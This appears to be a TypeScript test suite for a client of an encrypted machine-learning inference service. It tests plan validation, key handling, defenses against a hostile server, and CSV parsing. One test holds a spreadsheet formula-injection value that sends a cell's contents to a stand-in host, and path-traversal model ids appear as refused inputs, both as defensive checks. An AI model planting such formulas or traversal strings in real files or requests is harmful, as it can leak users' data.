/** Plans, containers, tables and HTTP without a browser: what a hostile server may send, and what the Python tests share. */
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { test } from "node:test";

import { readReply, REQUEST, toHex, write } from "../src/container.ts";
import { numbers, readCells, writeTable } from "../src/csv.ts";
import { cryptographic, encode } from "../src/embedding.ts";
import { AskError, TokenError } from "../src/errors.ts";
import { post } from "../src/http.ts";
import { ask, Client, type Connection, connect, startSeal } from "../src/index.ts";
import { layoutOf } from "../src/layouts.ts";
import { readPlan } from "../src/plan.ts";
import { SecretKey } from "../src/seal.ts";
import { joined, Masks } from "../src/seeds.ts";

const read = (name: string) => JSON.parse(readFileSync(new URL(`../../../tests/vectors/${name}.json`, import.meta.url), "utf8"));
const { batch, packed } = read("plans");
const wasm = readFileSync(new URL("../node_modules/node-seal/dist/seal_throws.wasm", import.meta.url));
const plan = readPlan(batch.plan, batch.sha256);

/** The residues of the vectors: number i is (2654435761 i + 12345) mod q. */
function synthetic(shape: readonly number[]): Uint32Array<ArrayBuffer> {
  const ring = shape[3]!;
  const count = shape.reduce((a, b) => a * b);
  return Uint32Array.from({ length: count }, (_, i) => {
    const q = plan.chain.primes[Math.floor(i / ring) % plan.chain.primes.length]!;
    return Number((2654435761n * BigInt(i) + 12345n) % q);
  });
}

const identity = {
  plan: plan.sha256,
  model: plan.modelId,
  key: Uint8Array.from({ length: 16 }, (_, i) => i),
  nonce: Uint8Array.from({ length: 16 }, (_, i) => 16 + i),
};

test("containers are those of the shared vectors, byte for byte", async () => {
  const [request, reply] = read("containers");
  const layout = layoutOf(plan);
  const seed = Uint8Array.from({ length: 32 }, (_, i) => 32 + i);
  const body = await write(REQUEST, identity, layout.request(plan), joined([seed, new Uint8Array(synthetic(request.shape).buffer)]));
  assert.equal(toHex(body.subarray(0, 132)), request.header);
  assert.equal(body.length, request.bytes);
  assert.equal(toHex(body.subarray(-32)), request.sha256);

  const residues = synthetic(reply.shape);
  const data = new Uint8Array(reply.bytes);
  data.set(Buffer.from(reply.header, "hex"));
  data.set(new Uint8Array(residues.buffer), 132);
  data.set(Buffer.from(reply.sha256, "hex"), reply.bytes - 32);
  assert.deepEqual(await readReply(data.buffer, identity, layout.reply(plan)), new Uint8Array(residues.buffer));
});

test("a plan of another layout is refused", () => {
  assert.throws(() => layoutOf(readPlan(packed.plan, packed.sha256)), /does not speak layout packed/);
});

test("what Python refuses in a plan is refused here", () => {
  const changes: [(plan: any) => void, RegExp][] = [
    [(plan) => (plan.chain.primes = [249857, 249857]), /not distinct/],
    [(plan) => (plan.chain.primes = [249857, 12289]), /not distinct/],
    [(plan) => (plan.chain.primes = [249857, 188416]), /188416 is not a prime of its ring/],
    [(plan) => (plan.chain.primes = [249857, 12289 * 40961]), /is not a prime of its ring/],
    [(plan) => (plan.chain.primes = Array(1000).fill(12289)), /1 to 55 primes/],
    [(plan) => (plan.chain.primes = [4294955009, 4294828033]), /64 bits of modulus are not secure in a ring of 2048/],
    [(plan) => (plan.chain.special = null), /without a special one/],
    [(plan) => (plan.chain.special = 1073692673), /SEAL refuses 66 bits/],
    [(plan) => (plan.chain.ring = 512), /ring of 512/],
    [(plan) => (plan.chain.keys = true), /disagree about keys/],
    [(plan) => ((plan.scales.x = 40), (plan.scales.w = 0), (plan.scales.v = 0), (plan.domain.bound = 1e-50)), /could overflow/],
    [(plan) => ((plan.scales = { x: 36, w: 0, v: 0 }), (plan.domain.bound = 1e-30)), /could overflow/],
    [(plan) => ((plan.scales = { x: 17, w: 0, v: 0 }), (plan.domain.bound = 0.01), (plan.domain.high[1] = 2 ** 20)), /too large for its scale/],
    [(plan) => ((plan.domain.low[0] = 1e70), (plan.domain.high[0] = 1e70)), /box is not a number/],
    [(plan) => (plan.domain.low[0] = 2), /box is empty/],
    [(plan) => (plan.feature_names = ["a"]), /1 names for 2/],
    [(plan) => (plan.class_names = ["a", "b", "c"]), /3 names for 2/],
    [(plan) => (plan.promise = { reliable: { level: 0.9, threshold: 1, power: 3 } }), /reliable decisions/],
    [(plan) => (plan.model_id = "../../x"), /model id/],
  ];
  for (const [change, wanted] of changes) {
    const changed = structuredClone(batch.plan);
    change(changed);
    assert.throws(() => layoutOf(readPlan(changed, batch.sha256)), (error: Error) => error instanceof AskError && wanted.test(error.message), String(wanted));
  }
});

const json = (value: unknown, headers = {}) => new Response(JSON.stringify(value), { headers });

/** A server of one model with this answer to GET plan. */
function fake(models: unknown, answer: unknown): typeof fetch {
  return (async (url: URL) => (url.pathname === "/models" ? json(models) : json(answer, { "Quad4FHE-Plan": batch.sha256 }))) as unknown as typeof fetch;
}

test("a server that sends the plan of another model or layout than was asked for is not used", async () => {
  const url = "https://example.org";
  const own = { models: [{ id: plan.modelId, layouts: ["batch"] }] };
  assert.equal((await connect({ url, fetch: fake(own, batch.plan) })).plan.modelId, plan.modelId);
  const other = { models: [{ id: "0".repeat(64), layouts: ["batch"] }] };
  await assert.rejects(connect({ url, fetch: fake(other, batch.plan) }), /is for model b5296e428768/);
  for (const models of [null, {}, { models: [null] }, { models: [{ id: "../x", layouts: ["batch"] }] }, { models: [{ id: plan.modelId }] }]) {
    await assert.rejects(connect({ url, fetch: fake(models, batch.plan) }), /not a quad4fhe server/);
  }
});

test("no more is read than the plan allows, whatever length was announced", async () => {
  let given = 0;
  const endless = () =>
    new ReadableStream({
      pull(controller) {
        given += 1;
        controller.enqueue(new Uint8Array(1000));
      },
    });
  for (const status of [200, 400]) {
    given = 0;
    const service = { url: "https://example.org", fetch: (async () => new Response(endless(), { status })) as typeof fetch };
    await assert.rejects(post(service, "x", new Uint8Array(1), 5000), /more than the \d+ bytes/);
    assert.ok(given < 100);
  }
});

test("a token does not travel in the clear, and a missing one has an error of its own", async () => {
  const answering = (async () => json({ error: "no" }, {})) as typeof fetch;
  const refusing = (async () => new Response("{}", { status: 401 })) as typeof fetch;
  const send = (url: string, fetch: typeof globalThis.fetch) => post({ url, token: "secret", fetch }, "x", new Uint8Array(1), 5000);
  await assert.rejects(send("http://example.org", answering), /in the clear; use https/);
  for (const url of ["https://example.org", "http://127.0.0.1:8443", "http://localhost:1", "http://[::1]:1"]) await send(url, answering);
  await assert.rejects(send("https://example.org", refusing), TokenError);
});

test("samples outside a box of the server's choice are refused after everything was sent, others before", async () => {
  for (const pinned of [false, true]) {
    let sent = 0;
    const server = { plan, pinned, send: async () => (sent++, new ArrayBuffer(0)) } as unknown as Connection;
    const client = { plan, replyBytes: 1, keys: async () => null, encrypt: async () => ({ id: "", body: new Uint8Array(0), samples: 1 }) } as unknown as Client;
    await assert.rejects(ask(client, server, [[9, 0]]), pinned ? /; correct the value/ : /ask again$/);
    assert.equal(sent, pinned ? 0 : 1);
    await assert.rejects(ask(client, server, [[Number.NaN, 0]]), /is not a number/);
    assert.equal(sent, pinned ? 0 : 1);
  }
});

test("a public key is given out once: two of its forms would give the secret away", async () => {
  const key = new SecretKey(await startSeal(wasm.buffer.slice(wasm.byteOffset, wasm.byteOffset + wasm.length) as ArrayBuffer), plan.chain);
  assert.equal(key.publicKey().length, 2 * 3 * plan.chain.ring);
  assert.throws(() => key.publicKey(), /was made already/);
  key.forget();
});

test("a saved key decrypts what it encrypted before, and is refused in another chain", async () => {
  const seal = await startSeal(wasm.buffer.slice(wasm.byteOffset, wasm.byteOffset + wasm.length) as ArrayBuffer);
  const first = new SecretKey(seal, plan.chain);
  const { ring, primes, special } = plan.chain;
  const cipher = first.encrypt(first.residues(encode(new Float64Array(ring / 2).fill(3), ring, 2 ** 20, cryptographic)));
  const saved = first.save();
  first.forget();
  const second = new SecretKey(seal, plan.chain, saved);
  assert.ok(second.decrypt(cipher, 2, 2 ** 20).every((slot) => Math.abs(slot - 3) < 1e-2));
  assert.deepEqual(second.save(), saved);
  second.forget();
  const stranger = new SecretKey(seal, plan.chain);
  assert.ok(stranger.decrypt(cipher, 2, 2 ** 20).some((slot) => Math.abs(slot - 3) > 1));
  assert.notDeepEqual(stranger.save(), saved);
  stranger.forget();
  const other = { ring, primes: [...primes].reverse(), special };
  assert.throws(() => new SecretKey(seal, other, saved), /the saved key is not one of this plan/);
  assert.throws(() => new SecretKey(seal, plan.chain, saved.subarray(0, 500)), /the saved key is not one of this plan/);
  const client = new Client(seal, plan);
  assert.deepEqual(new Client(seal, plan, client.save()).save(), client.save());
});

test("an encryption under a seed decrypts with the mask of the seed, and only with that", async () => {
  const key = new SecretKey(await startSeal(wasm.buffer.slice(wasm.byteOffset, wasm.byteOffset + wasm.length) as ArrayBuffer), plan.chain);
  const { primes, ring } = plan.chain;
  const values = new Float64Array(ring / 2).fill(3);
  const residues = key.residues(encode(values, ring, 2 ** 20, cryptographic));
  const seed = crypto.getRandomValues(new Uint8Array(32));
  const masks = await Masks.of(seed);
  const far = async (number: number) => {
    const first = key.seeded(residues, await masks.narrow(7, primes, ring));
    const slots = key.decrypt(Uint32Array.from([...first, ...(await masks.narrow(number, primes, ring))]), 2, 2 ** 20);
    return Math.max(...slots.map((slot) => Math.abs(slot - 3)));
  };
  assert.ok((await far(7)) < 1e-2);
  assert.ok((await far(8)) > 1);
  key.forget();
});

test("a plan of private replies needs a public key, and a flooding that keeps its word", () => {
  const changed = structuredClone(batch.plan);
  Object.assign(changed.settings, { replies: "private", flood: 60, security: 40.5 });
  assert.throws(() => layoutOf(readPlan(changed, batch.sha256)), /disagree about keys/);
  changed.chain.keys = true;
  assert.equal(layoutOf(readPlan(changed, batch.sha256)).keys(readPlan(changed, batch.sha256))?.width, 1);
  changed.settings.security = 39;
  assert.throws(() => layoutOf(readPlan(changed, batch.sha256)), /are not private/);
});

const readTable = (text: string, { featureNames, features }: typeof plan) => numbers(readCells(text, { names: featureNames, count: features, text: false }));

test("a table: names, separators, and a first row that is a sample with a mistake", () => {
  const named = { ...plan, featureNames: ["width", "2"] };
  const rows = [[1, 2], [3, 4]].map((row) => Float64Array.from(row));
  assert.deepEqual(readTable("1,2\n3,4\n", plan), rows);
  assert.deepEqual(readTable("a;b\r\n1;2\r\n3;4", plan), rows);
  assert.deepEqual(readTable("2,width\n2,1\n4,3", named), rows);
  assert.throws(() => readTable("1,NA\n3,4", plan), /line 1, column 2: "NA" is not a number/);
  assert.throws(() => readTable("1,\n3,4", plan), /line 1, column 2: "" is not a number/);
  assert.throws(() => readTable("a,b\n1,2", named), /no column "width"/);
});

test("a table with text: quotes, missing values, and a header only by its names", () => {
  const columns = { names: ["age", "town"], count: 2, text: true };
  assert.deepEqual(readCells('61,"Aarhus, city"\n,"the ""old"" town"\n7, Turku ', columns).rows, [["61", "Aarhus, city"], ["", 'the "old" town'], ["7", "Turku"]]);
  assert.deepEqual(readCells("town,age\nBergen,5", columns).rows, [["5", "Bergen"]]);
  assert.deepEqual(readCells("unknown,Bergen", columns).rows, [["unknown", "Bergen"]]);
  assert.deepEqual(readCells("a, b; c\nd", { names: ["words"], count: 1, text: true }).rows, [["a, b; c"], ["d"]]);
  assert.deepEqual(readCells("1;;3", { names: null, count: 3, text: false }).rows, [["1", "", "3"]]);
  assert.throws(() => readCells("1,2,3", columns), /line 1 has 3 values, the model has 2 inputs/);
});

test("a name that a spreadsheet would compute is written as text", () => {
  const table = writeTable(["score of =A1"], [[`=WEBSERVICE("http://x/?"&B2)`, -1.5], ["@x", 2], ["+1", 3], ["\t=x", 4], ["-", 5], ["plain", 6]]);
  const wanted = ["score of =A1", `"'=WEBSERVICE(""http://x/?""&B2)",-1.5`, "'@x,2", "'+1,3", `"'\t=x",4`, "'-,5", "plain,6"];
  assert.deepEqual(table.trim().split("\n"), wanted);
});
